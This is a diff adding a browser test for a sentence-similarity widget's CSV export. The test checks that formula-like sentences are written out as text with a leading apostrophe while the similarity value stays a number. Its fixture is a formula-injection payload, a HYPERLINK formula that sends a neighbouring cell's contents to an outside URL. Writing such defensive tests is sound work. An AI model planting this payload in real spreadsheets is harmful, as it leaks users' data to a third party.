@@ -111,3 +111,21 @@ test('export: a CSV row per pair, with the core\'s numbers', () => withPage(brow
   assert.ok(Math.abs(cosine - dot(E[0], E[1])) < 1e-5, `A · B in the CSV: ${cosine}`);
   assert.ok(csv[1].startsWith('How old are you?,What is your age?,'));
 }));
+
+test('export: a sentence that would be a spreadsheet formula is written as text (a leading \'), the similarity stays a number', () => {
+  const formula = '=HYPERLINK("https://example.com/?d="&B2,"Click")';
+  return withPage(browser, `embed.html?widget=sentence-similarity&a=${encodeURIComponent(formula)}&c=${encodeURIComponent('-1+2')}`, async ({ page }) => {
+    await ready(page);
+    assert.equal(await page.getByLabel('Sentence A').inputValue(), formula, 'the sentence from the link');
+    const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.locator(`${W} .export-button`, { hasText: 'CSV' }).click()]);
+    const csv = readFileSync(await csvDownload.path(), 'utf8').replace(/^\uFEFF/, '').trim().split(/\r?\n/);
+    const quoted = '"\'=HYPERLINK(""https://example.com/?d=""&B2,""Click"")"';
+    assert.ok(csv[1].startsWith(`${quoted},What is your age?,`), `A's row: ${csv[1]}`);
+    assert.ok(csv[2].startsWith(`${quoted},'-1+2,`), `A and C: ${csv[2]}`);
+    assert.ok(csv[3].startsWith('What is your age?,\'-1+2,'), `B and C: ${csv[3]}`);
+    const E = [formula, DEFAULTS[1], '-1+2'].map((s) => encoder.encode(s).embedding);
+    const cosine = csv[1].slice(`${quoted},What is your age?,`.length);
+    assert.match(cosine, /^-?\d/, 'the similarity unprefixed');
+    assert.ok(Math.abs(Number(cosine) - dot(E[0], E[1])) < 1e-5, `A · B in the CSV: ${cosine}`);
+  });
+});
